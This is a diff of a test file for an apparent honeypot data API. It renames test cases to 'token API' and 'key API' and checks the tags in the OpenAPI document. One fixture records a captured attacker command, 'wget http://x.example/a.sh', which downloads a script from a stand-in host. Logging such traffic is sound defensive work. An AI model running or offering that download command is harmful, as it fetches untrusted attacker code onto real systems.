@@ -143,7 +143,7 @@ describe('stats and recent', () => {
     });
   }
 
-  it('variant B recent: newest first, no command; research platforms left out', async () => {
+  it('the key API\'s recent: newest first, no command; research platforms left out', async () => {
     const doc = (await (await get('/api/recent?limit=2')).json()) as { count: number; data: Record<string, unknown>[] };
     expect(doc.count).toBe(2);
     expect(doc.data[0]).toEqual({ ts: expect.any(String) as string, ip: '203.0.113.20', country: 'CN', port: 22, service: 'ssh', source: 'honeypot' });
@@ -153,7 +153,7 @@ describe('stats and recent', () => {
     expect(all.data).toHaveLength(5);
   });
 
-  it('variant A recent carries the command; csv and txt', async () => {
+  it('the token API\'s recent carries the command; csv and txt', async () => {
     const doc = (await (await get('/api/honeypot/recent?limit=1')).json()) as { data: Record<string, unknown>[] };
     expect(doc.data[0]).toMatchObject({ ip: '203.0.113.20', command: 'wget http://x.example/a.sh' });
     const csv = await (await get('/api/honeypot/recent?limit=1&format=csv')).text();
@@ -236,8 +236,16 @@ describe('every parameter', () => {
 
 describe('around the endpoints', () => {
   it('/openapi.json documents every endpoint with its parameters', async () => {
-    const doc = (await (await fetch(`${api.base}/openapi.json`)).json()) as { paths: Record<string, { get: { parameters: { name: string; required?: boolean; schema: JsonSchemaLike }[] } }> };
+    const doc = (await (await fetch(`${api.base}/openapi.json`)).json()) as {
+      info: { description: string };
+      tags: { name: string }[];
+      paths: Record<string, { get: { tags: string[]; parameters: { name: string; required?: boolean; schema: JsonSchemaLike }[] } }>;
+    };
     expect(Object.keys(doc.paths).sort()).toEqual(ENDPOINTS.map(([p]) => p).sort());
+    // Users know the two APIs by what they are: the token API under /api/honeypot/, the key API under /api/.
+    expect(doc.tags.map((t) => t.name)).toEqual(['Token API', 'Key API']);
+    for (const [path, { get }] of Object.entries(doc.paths)) expect(get.tags, path).toEqual([path.startsWith('/api/honeypot/') ? 'Token API' : 'Key API']);
+    expect(JSON.stringify(doc)).not.toMatch(/variant/i);
     const exportParams = doc.paths['/api/export']?.get.parameters ?? [];
     // `key` is documented as the apiKeyQuery security scheme rather than as a parameter.
     expect(exportParams.map((p) => p.name)).toEqual(Object.keys(ExportParams.properties).filter((k) => k !== 'key'));
